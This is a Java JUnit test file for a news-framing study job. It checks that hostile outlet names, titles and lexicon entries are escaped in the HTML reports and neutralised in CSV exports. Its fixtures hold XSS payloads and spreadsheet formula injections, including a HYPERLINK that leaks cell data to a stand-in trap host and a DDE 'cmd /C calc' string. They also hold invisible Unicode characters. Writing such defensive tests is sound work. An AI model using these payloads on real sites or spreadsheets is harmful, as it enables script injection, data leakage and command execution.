package org.framing.job;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.Reader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.spark.sql.SparkSession;
import org.framing.report.Chromium;
import org.framing.report.NetworkTrap;
import org.framing.testing.LocalSpark;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A study whose outlet names, titles, quotations, speakers, actors and frame names are hostile: markup that
 * would run script or fetch from the network if it reached a page as HTML, formulas for spreadsheets, and
 * right-to-left overrides and zero-width characters. The job runs with charts and {@code --excel-safe}; every
 * page is opened in headless Chromium with all network traffic sent to a local trap.
 */
class HostileTextTest {

  /** Each payload sets data-pwned on the body if it runs, or asks the trap's host for an image if it loads. */
  static final String SCRIPT_OUTLET = "<script>document.body.dataset.pwned=1</script>";
  static final String IMG_OUTLET = "\"><img src=http://framing-trap.invalid/outlet.png onerror=\"document.body.dataset.pwned=2\">";
  static final String RTL_OUTLET = "\u202ETimes\u202C of Oman\u200B";
  static final String RTL_SHOWN = "[U+202E]Times[U+202C] of Oman[U+200B]";

  private static SparkSession spark;
  @TempDir
  static Path tmp;
  static Path out;

  @BeforeAll
  static void runTheJob() throws IOException {
    spark = LocalSpark.start();
    Path study = tmp.resolve("hostile");
    Files.createDirectories(study);
    String manifest = "file,outlet,title\n"
        + "a1.txt," + csv(SCRIPT_OUTLET) + "," + csv("\"><img src=x onerror=\"document.body.dataset.pwned=3\">") + "\n"
        + "a2.txt," + csv(SCRIPT_OUTLET) + "," + csv("=HYPERLINK(\"http://framing-trap.invalid/leak?\"&A1,\"open\")") + "\n"
        + "b1.txt," + csv(IMG_OUTLET) + "," + csv("+cmd|' /C calc'!A0") + "\n"
        + "b2.txt," + csv(IMG_OUTLET) + ",-2+3\n"
        + "c1.txt," + csv(RTL_OUTLET) + ",@SUM(1+1)\n";
    Files.writeString(study.resolve("manifest.csv"), manifest);
    String quote = "\u201c<script>document.body.dataset.pwned=4</script> is no way to talk,\u201d Stoltenberg said. ";
    String body = "NATO and Russia held talks in Brussels on security guarantees. Sanctions were discussed at length. "
        + "Diplomats said the talks were tense but useful and would go on. ";
    Files.writeString(study.resolve("a1.txt"), quote + body + "The alliance warned of a real risk of conflict.");
    Files.writeString(study.resolve("a2.txt"), body + "<img src=http://framing-trap.invalid/text.png> Moscow replied.");
    Files.writeString(study.resolve("b1.txt"), quote + body + "Russia demanded guarantees from the alliance.");
    Files.writeString(study.resolve("b2.txt"), body + "\u202EThe Kremlin said nothing\u202C about the talks.");
    Files.writeString(study.resolve("c1.txt"), quote + "Sanctions and security dominated the talks in Brussels.");
    Files.writeString(study.resolve("speakers.csv"), "speaker,aliases,affiliation\n"
        + csv("<img src=x onerror=document.body.dataset.pwned=5>") + ",Stoltenberg,"
        + csv("<script>document.body.dataset.pwned=6</script>") + "\n");
    Files.writeString(study.resolve("actors.csv"), "actor,group,aliases\n"
        + csv("<svg onload=document.body.dataset.pwned=7>") + ",bloc,NATO\n");
    Path lexicon = tmp.resolve("hostile-frames.csv");
    Files.writeString(lexicon, "term,category\ntalks," + csv("<img src=http://framing-trap.invalid/frame.png>")
        + "\nsanctions," + csv("\u202Eeconomy\u202C") + "\n");
    out = tmp.resolve("out");
    JobOptions o = JobOptions.defaults().withInput(study.toString(), out).withExcelSafe(true);
    JobOptions.Sentiment s = o.sentiment();
    new StudyJob(spark, o.withSentiment(new JobOptions.Sentiment(true, s.vaderLexicon(), s.toneLexicon(), s.positive(),
        s.negative(), false, 100, List.of("frames", lexicon.toString()), null)), null).run();
  }

  @AfterAll
  static void stop() {
    spark.stop();
  }

  private static String csv(String value) {
    return "\"" + value.replace("\"", "\"\"") + "\"";
  }

  private static List<CSVRecord> records(String file) throws IOException {
    try (Reader in = Files.newBufferedReader(out.resolve(file))) {
      return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).build().parse(in).getRecords();
    }
  }

  private static List<Path> pages() throws IOException {
    List<Path> pages = new ArrayList<>(List.of(out.resolve("report.html")));
    try (Stream<Path> charts = Files.list(out.resolve("charts"))) {
      charts.filter(p -> p.toString().endsWith(".html")).sorted().forEach(pages::add);
    }
    return pages;
  }

  @Test
  void theTrapSeesARequestWhenAPageMakesOne() throws IOException {
    Chromium.requireOrSkip();
    Path control = tmp.resolve("control.html");
    Files.writeString(control, "<!DOCTYPE html><html><body><img src=\"http://framing-trap.invalid/control.png\"></body></html>");
    try (NetworkTrap trap = new NetworkTrap()) {
      Chromium.dumpDom(control, trap);
      assertEquals(List.of("GET http://framing-trap.invalid/control.png HTTP/1.1"), trap.pageRequests());
    }
  }

  @Test
  void aBlankPageMakesOnlyTheBrowsersOwnRequests() throws IOException {
    Chromium.requireOrSkip();
    Path blank = tmp.resolve("blank.html");
    Files.writeString(blank, "<!DOCTYPE html><html><body>blank</body></html>");
    try (NetworkTrap trap = new NetworkTrap()) {
      Chromium.dumpDom(blank, trap);
      assertEquals(List.of(), trap.pageRequests(), "Chromium called a service NetworkTrap.BROWSER_SERVICES lacks");
    }
  }

  @Test
  void noScriptRunsAndNothingIsRequestedOnAnyPage() throws IOException {
    Chromium.requireOrSkip();
    List<Path> pages = pages();
    assertEquals(13, pages.size(), pages.toString());
    try (NetworkTrap trap = new NetworkTrap()) {
      for (Path page : pages) {
        String dom = Chromium.dumpDom(page, trap);
        assertFalse(dom.contains("data-pwned"), page + ": a hostile script ran");
        assertFalse(dom.contains("<img src=\"http://framing-trap") || dom.contains("<img src=x"), page + ": markup got in");
        assertTrue(dom.contains("<svg class=\"main-svg\""), page + ": plotly drew nothing");
      }
      assertEquals(List.of(), trap.pageRequests(), "requests the pages made");
    }
  }

  @Test
  void hostileNamesAreShownAsTextWithInvisibleCharactersMadeVisible() throws IOException {
    Chromium.requireOrSkip();
    String dom;
    try (NetworkTrap trap = new NetworkTrap()) {
      dom = Chromium.dumpDom(out.resolve("report.html"), trap);
    }
    assertTrue(dom.contains("<title>Framing report: hostile</title>"), "the page title changed");
    assertTrue(dom.contains(">&lt;script&gt;document.body.dataset.pwned=1&lt;/script&gt;</text>"), "outlet in a chart");
    assertTrue(dom.contains("&lt;script&gt;document.body.dataset.pwned=1&lt;/script&gt;</td>"), "outlet in a table");
    assertTrue(dom.contains(">" + RTL_SHOWN + "</text>"), "right-to-left outlet in a chart");
    assertFalse(dom.contains("\u202E"), "a right-to-left override reached the page");
    assertFalse(dom.contains("\u200B"), "a zero-width space reached the page");
  }

  @Test
  void excelSafeNeutralisesFormulasInTextCellsAndKeepsNumbersNumbers() throws IOException {
    List<String> titles = records("articles.csv").stream().map(r -> r.get("title")).toList();
    assertEquals(List.of("\"><img src=x onerror=\"document.body.dataset.pwned=3\">",
        "'=HYPERLINK(\"http://framing-trap.invalid/leak?\"&A1,\"open\")", "'+cmd|' /C calc'!A0", "'-2+3",
        "'@SUM(1+1)"), titles);
    List<CSVRecord> sentiment = records("sentiment_by_article.csv");
    assertEquals(5, sentiment.size());
    boolean negative = false;
    for (CSVRecord r : sentiment) {
      for (String column : List.of("compound", "tone", "positive", "negative", "polarity")) {
        double value = Double.parseDouble(r.get(column));
        negative |= value < 0;
      }
    }
    assertTrue(negative, "the fixture should have a negative number to leave alone");
  }
  @Test
  void excelSafeCoversTrendsAndEveryOtherCsv() throws IOException {
    // Dated over two days, so that trends.csv is written; outlets and titles that spreadsheets would run.
    String formula = "=HYPERLINK(\"http://framing-trap.invalid/\")";
    Path corpus = tmp.resolve("formulas.jsonl");
    Files.writeString(corpus, String.join("\n",
        "{\"id\": \"f1\", \"outlet\": " + json(formula) + ", \"date\": \"2022-01-10\", \"title\": \"-1+2\", "
            + "\"text\": \"Talks failed badly. The war is a terrible disaster.\"}",
        "{\"id\": \"f2\", \"outlet\": \"@SUM(1+1)\", \"date\": \"2022-01-12\", \"title\": \"+cmd\", "
            + "\"text\": \"Talks succeeded. Peace is a wonderful gift.\"}",
        "{\"id\": \"f3\", \"outlet\": " + json(formula) + ", \"date\": \"2022-01-12\", \"title\": \"T\", "
            + "\"text\": \"Sanctions hurt. The crisis is awful.\"}") + "\n");
    Path formulas = tmp.resolve("formulas-out");
    JobOptions o = JobOptions.defaults().withInput(corpus.toString(), formulas).withExcelSafe(true).withoutCharts()
        .withReuse(new JobOptions.Reuse(false, 8, 20)).withEvents(new JobOptions.Events(JobOptions.Events.Mode.NONE,
            null, 3));
    JobOptions.Sentiment s = o.sentiment();
    new StudyJob(spark, o.withSentiment(new JobOptions.Sentiment(true, s.vaderLexicon(), s.toneLexicon(), s.positive(),
        s.negative(), false, 100, s.frameLexicons(), null)), null).run();
    List<CSVRecord> trends = parse(formulas.resolve("trends.csv"));
    assertEquals(List.of("'" + formula, "'@SUM(1+1)"), trends.stream().map(r -> r.get("outlet")).distinct().toList());
    assertEquals("-0.826402417797", trends.get(0).get("value"), "a negative number stays a number");
    List<String> files;
    try (Stream<Path> list = Files.list(formulas)) {
      files = list.map(p -> p.getFileName().toString()).filter(n -> n.endsWith(".csv")).sorted().toList();
    }
    assertTrue(files.contains("trends.csv"), files.toString());
    for (String file : files) {
      for (CSVRecord r : parse(formulas.resolve(file))) {
        for (String cell : r) {
          assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0 && !isNumber(cell),
              file + " line " + r.getRecordNumber() + ": " + cell);
        }
      }
    }
  }

  private static String json(String value) {
    return "\"" + value.replace("\"", "\\\"") + "\"";
  }

  private static List<CSVRecord> parse(Path file) throws IOException {
    try (Reader in = Files.newBufferedReader(file)) {
      return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).build().parse(in).getRecords();
    }
  }

  private static boolean isNumber(String cell) {
    try {
      Double.parseDouble(cell);
      return true;
    } catch (NumberFormatException e) {
      return false;
    }
  }
}
